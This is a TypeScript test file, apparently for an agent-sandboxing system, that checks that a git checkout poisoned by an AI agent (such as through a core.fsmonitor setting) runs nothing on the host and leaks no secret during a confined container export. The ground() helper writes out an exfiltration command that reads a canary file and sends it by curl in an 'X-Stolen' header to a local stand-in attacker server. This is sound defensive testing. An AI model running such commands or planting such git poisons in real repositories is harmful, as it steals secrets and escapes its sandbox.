import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { chmod, rm } from "node:fs/promises";
import { join } from "node:path";
import { EXPORT_EXIT, EXPORT_RELEASE, EXPORT_SCRIPT } from "@windshift/contract/export-script.ts";
import { mustGit, refOf } from "@windshift/git-broker/broker-fixture.ts";
import { POISONS, type PoisonGround } from "./poison.ts";
import { type AttemptFixture, preparedBase, startTriage, type TriageFixture } from "./triage-fixture.ts";

/** An image with sh and git; the agent's own unless told otherwise. */
const IMAGE = process.env.WINDSHIFT_TEST_IMAGE ?? "windshift/agent:local";
const CANARY = `canary-${randomBytes(16).toString("hex")}`;
const TEST_MS_MAX = 60_000;

let host: TriageFixture;
let marker: string;
let secretRepository: string;
let secretOid: string;
const stolen: string[] = [];
const attacker = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  fetch: (request) => {
    stolen.push(`${request.method} ${request.url} ${JSON.stringify([...request.headers])}`);
    return new Response("", { status: 401, headers: { "www-authenticate": "Basic" } });
  },
});

beforeAll(async () => {
  const image = Bun.spawnSync(["docker", "image", "inspect", IMAGE]);
  if (image.exitCode !== 0)
    throw new Error(`no image ${IMAGE}: build it with "make image" or set WINDSHIFT_TEST_IMAGE`);
  host = await startTriage();
  marker = join(host.broker.dir, "marker");
  await Bun.write(join(host.broker.dir, "canary"), CANARY);
  secretRepository = join(host.broker.dir, "secret.git");
  const seed = join(host.broker.dir, "secret");
  await mustGit(host.broker, host.broker.dir, "init", "-q", "-b", "main", seed);
  await Bun.write(join(seed, "secret.txt"), CANARY);
  await mustGit(host.broker, seed, "add", "-A");
  await mustGit(host.broker, seed, "commit", "-q", "-m", CANARY);
  await mustGit(host.broker, host.broker.dir, "clone", "-q", "--bare", seed, secretRepository);
  secretOid = await mustGit(host.broker, seed, "rev-parse", "HEAD");
});
afterAll(async () => {
  await attacker.stop(true);
  await host.stop();
});

describe("a checkout an agent has poisoned", () => {
  POISONS.forEach((poison, index) => {
    test(
      `${poison.name}: nothing runs on the host, and ${poison.end === "arrives" ? "exactly the agent's commit arrives" : "nothing is pushed"}`,
      async () => {
        const attempt = await host.attempt(100 + index);
        const base = preparedBase(await attempt.prepare());
        const commit = await attempt.commit("work.txt", "the agent's work\n");
        await poison.plant(ground(attempt));
        await giveToAgent(attempt.checkout);
        await rm(marker, { force: true }); // planting may have set it off
        stolen.length = 0;

        const exported = await exportInContainer(attempt, base);
        const end = exported === EXPORT_EXIT.bundle ? await attempt.push(base) : undefined;

        expect(existsSync(marker)).toBe(false);
        expect(stolen).toEqual([]);
        if (poison.end === "arrives") expect(end?.reply).toMatchObject({ kind: "pushed", head_oid: commit });
        else expect(end?.reply.kind).not.toBe("pushed");
        expect(await refOf(host.broker, attempt.run.ref)).toBe(poison.end === "arrives" ? commit : undefined);
        expect(await seenByBroker()).not.toContain(CANARY);
        expect(JSON.stringify(end ?? "")).not.toContain(CANARY);
      },
      TEST_MS_MAX,
    );
  });

  test(
    "the poison is real: a git that runs in such a checkout sets it off",
    async () => {
      const attempt = await host.attempt(99);
      await attempt.prepare();
      const poison = POISONS.find(({ name }) => name === "HG-02 core.fsmonitor");
      await poison?.plant(ground(attempt));
      await rm(marker, { force: true });
      await Bun.spawn(["git", "-c", "safe.directory=*", "status"], {
        cwd: attempt.checkout,
        stdout: "ignore",
        stderr: "ignore",
      }).exited;
      expect(await Bun.file(marker).text()).toContain(CANARY);
      expect(stolen.join()).toContain(CANARY);
    },
    TEST_MS_MAX,
  );
});

function ground(attempt: AttemptFixture): PoisonGround {
  const canary = join(host.broker.dir, "canary");
  const address = `127.0.0.1:${attacker.port}`;
  return {
    checkout: attempt.checkout,
    command: `cat ${canary} >> ${marker}; curl -s http://${address}/ -H X-Stolen:$(cat ${canary})`,
    secretRepository,
    secretOid,
    attacker: address,
    branch: attempt.branch,
  };
}

/** What the agent's user would own in production, planted here by another. */
async function giveToAgent(dir: string): Promise<void> {
  if (process.getuid?.() === 0) await Bun.spawn(["chown", "-hR", "1000:1000", dir]).exited;
  else await chmod(dir, 0o777);
}

/** The export as a runner does it: a fresh container that has the checkout, read-only, and nothing else. */
async function exportInContainer(attempt: AttemptFixture, base: string): Promise<number> {
  const confinement = ["--network", "none", "--user", "1000:1000", "--read-only", "--cap-drop", "ALL"];
  const mount = ["-v", `${attempt.checkout}:/workspace:ro`, "-w", "/workspace"];
  const script = ["--entrypoint", "sh", IMAGE, "-c", EXPORT_SCRIPT, "export", base, attempt.branch];
  const child = Bun.spawn(["docker", "run", "--rm", "--interactive", ...confinement, ...mount, ...script], {
    stdin: Buffer.from(EXPORT_RELEASE),
    stdout: Bun.file(attempt.bundle),
    stderr: "pipe",
  });
  const exitCode = await child.exited;
  // 125 to 127: the engine or the image failed, not the script; that would prove nothing.
  if (exitCode >= 125 && exitCode <= 127) throw new Error(await new Response(child.stderr).text());
  return exitCode;
}

/** Every request line and header, and every object and ref of the repository behind the broker. */
async function seenByBroker(): Promise<string> {
  const requests = host.broker.seen.map(({ line, headers }) => `${line} ${JSON.stringify([...headers])}`);
  const objects = await mustGit(
    host.broker,
    host.broker.repository,
    "cat-file",
    "--batch-all-objects",
    "--batch",
  );
  return [...requests, objects, await mustGit(host.broker, host.broker.repository, "for-each-ref")].join(
    "\n",
  );
}
